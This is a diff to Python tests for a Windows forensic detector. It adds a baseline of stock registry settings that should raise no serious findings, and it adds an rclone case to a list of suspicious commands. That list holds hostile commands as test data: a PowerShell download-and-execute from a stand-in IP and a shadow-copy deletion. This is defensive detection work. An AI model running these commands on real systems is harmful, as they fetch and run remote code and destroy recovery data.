@@ -15,6 +15,7 @@ from memory_events import MemoryEvents
 sys.path.insert(0, str(Path(__file__).parents[1] / "formats"))
 
 import hive_samples
+from hive_writing import tree, write
 
 from headwater.detect import registry
 from headwater.detect.detectors import windows_accounts, windows_autoruns, windows_defences, windows_traces
@@ -96,7 +97,7 @@ def test_a_task_that_no_tool_shows_is_told(after: list[Any]) -> None:
         ("WDigest UseLogonCredential = 1", Severity.HIGH),
         ("Defender exclusion = C:\\Users\\Public", Severity.HIGH),
         ("Windows Defender DisableAntiSpyware = 1", Severity.MEDIUM),
-        ("UserAuthentication = 0", Severity.MEDIUM),
+        ("UserAuthentication = 0", Severity.LOW),
         ("PortNumber = 13389", Severity.LOW),
         ("System EnableLUA = 0", Severity.MEDIUM),
         ("firewall StandardProfile EnableFirewall = 0", Severity.LOW),
@@ -119,6 +120,76 @@ def test_traces_of_one_program_are_one_finding(after: list[Any]) -> None:
     assert finding.facts["program"] == "upd.exe"
     assert finding.facts["ran"]
     assert {c.claims["trace"] for c in finding.spans} == {"shimcache", "bam", "amcache", "muicache"}
+
+
+STOCK_SYSTEM: dict[str, dict[str, Any]] = {
+    "Select": {"Current": 1},
+    "ControlSet001\\Control\\Lsa": {
+        "Security Packages": ['""'], "Authentication Packages": ["msv1_0"], "Notification Packages": ["rassfm", "scecli"], "LmCompatibilityLevel": 3,
+    },
+    "ControlSet001\\Control\\Lsa\\OSConfig": {"Security Packages": ["kerberos", "msv1_0", "schannel", "wdigest", "tspkg", "pku2u", "cloudAP"]},
+    "ControlSet001\\Control\\SecurityProviders": {"SecurityProviders": "credssp.dll"},
+    "ControlSet001\\Control\\Session Manager": {"BootExecute": ["autocheck autochk /q /v *"]},
+    "ControlSet001\\Control\\Print\\Monitors\\Local Port": {"Driver": "localspl.dll"},
+    "ControlSet001\\Control\\Print\\Providers\\LanMan Print Services": {"Name": "win32spl.dll"},
+    "ControlSet001\\Control\\SafeBoot": {"AlternateShell": "cmd.exe"},
+    "ControlSet001\\Control\\Terminal Server": {"fDenyTSConnections": 0},
+    "ControlSet001\\Control\\Terminal Server\\Wds\\rdpwd": {"StartupPrograms": "rdpclip"},
+    "ControlSet001\\Services\\W32Time\\TimeProviders\\NtpClient": {"DllName": "%systemroot%\\system32\\w32time.dll"},
+    "ControlSet001\\Services\\COMSysApp": {"ImagePath": "%SystemRoot%\\system32\\dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}"},
+    "ControlSet001\\Services\\SamSs": {"ImagePath": "%SystemRoot%\\system32\\lsass.exe"},
+    "ControlSet001\\Services\\PerfHost": {"ImagePath": "%SystemRoot%\\SysWow64\\perfhost.exe"},
+    "ControlSet001\\Services\\vmci": {"ImagePath": "\\??\\C:\\Windows\\system32\\DRIVERS\\vmci.sys"},
+    "ControlSet001\\Services\\WinDefend": {"ImagePath": '"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18\\MsMpEng.exe"', "Start": 2},
+    "ControlSet001\\Services\\TrustedInstaller": {"ImagePath": "%SystemRoot%\\servicing\\TrustedInstaller.exe"},
+}  # fmt: skip
+STOCK_SOFTWARE: dict[str, dict[str, Any]] = {
+    "Microsoft\\Windows NT\\CurrentVersion\\Winlogon": {
+        "Shell": "explorer.exe", "Userinit": "C:\\Windows\\system32\\userinit.exe,", "VmApplet": "SystemPropertiesPerformance.exe /pagefile",
+    },
+    "WOW6432Node\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon": {"Shell": "explorer.exe", "Userinit": "userinit.exe"},
+    "Microsoft\\Windows NT\\CurrentVersion\\Windows": {"AppInit_DLLs": ""},
+    "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\mscorsvw.exe": {"MitigationOptions": 1},
+    "Microsoft\\Active Setup\\Installed Components\\{89820200-ECBD-11cf-8B85-00AA005B4340}": {"StubPath": "U"},
+    "Microsoft\\Active Setup\\Installed Components\\{6BF52A52-394A-11d3-B153-00C04F79FAA6}": {
+        "StubPath": "%SystemRoot%\\system32\\unregmp2.exe /FirstLogon",
+    },
+    "Microsoft\\Active Setup\\Installed Components\\>{22d6f312}": {
+        "StubPath": "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\mscories.dll,Install",
+    },
+    "Microsoft\\NetSh": {"2": "ifmon.dll", "rasmontr": "rasmontr.dll"},
+    "Microsoft\\Windows\\CurrentVersion\\Run": {"VMware User Process": '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr'},
+    "Microsoft\\Windows\\CurrentVersion\\Policies\\System": {"EnableLUA": 1, "ConsentPromptBehaviorAdmin": 5},
+    "Microsoft\\Windows Defender\\Exclusions\\Paths": {"C:\\Windows\\NTDS": 0, "D:\\SQLData": 0, "C:\\Program Files\\Microsoft SQL Server": 0},
+    "Microsoft\\Windows Defender\\Exclusions\\Extensions": {".mdf": 0, ".ldf": 0},
+    "Classes": {},
+}  # fmt: skip
+STOCK_TASKS = (
+    ("%windir%\\system32\\rundll32.exe", "/d acproxy.dll,PerformAutochkOperations"),
+    ("%systemroot%\\system32\\cmd.exe", "/d /c %systemroot%\\system32\\silcollector.cmd publish"),
+    (
+        "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "-ExecutionPolicy Unrestricted -WindowStyle Hidden -File x.ps1",
+    ),
+    ("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "/c"),
+)
+
+
+def test_what_windows_itself_starts_and_sets_says_nothing() -> None:
+    software = {k: dict(v) for k, v in STOCK_SOFTWARE.items()}
+    for number, (command, arguments) in enumerate(STOCK_TASKS):
+        guid = f"{{{number}}}"
+        software[f"{hive_samples.CACHE}\\Tree\\Stock{number}"] = {"Id": guid, "SD": b"\1"}
+        software[f"{hive_samples.CACHE}\\Tasks\\{guid}"] = {
+            "Path": f"\\Stock{number}",
+            "Actions": hive_samples.actions(command, arguments),
+        }
+    hives = {
+        hive_samples.PATHS["SYSTEM"]: write(tree(STOCK_SYSTEM), "SYSTEM"),
+        hive_samples.PATHS["SOFTWARE"]: write(tree(software), "emRoot\\System32\\Config\\SOFTWARE"),
+    }
+    found = told(events_of(hives))
+    assert [f.text.en for f in found if SEVERITY_ORDER[f.severity] > SEVERITY_ORDER[Severity.LOW]] == []
 
 
 def test_the_same_server_before_says_nothing() -> None:
@@ -164,6 +235,7 @@ def test_an_ordinary_command_has_no_strong_sign(command: str) -> None:
         ("powershell -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "download"),
         ("%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output", "shell-service"),
         ("C:\\$Recycle.Bin\\a.exe", "public"),
+        ("C:\\Tools\\rclone.exe mount r: x:", "dual-use"),
         ("vssadmin.exe Delete Shadows /All /Quiet", "shadow-delete"),
     ],
 )
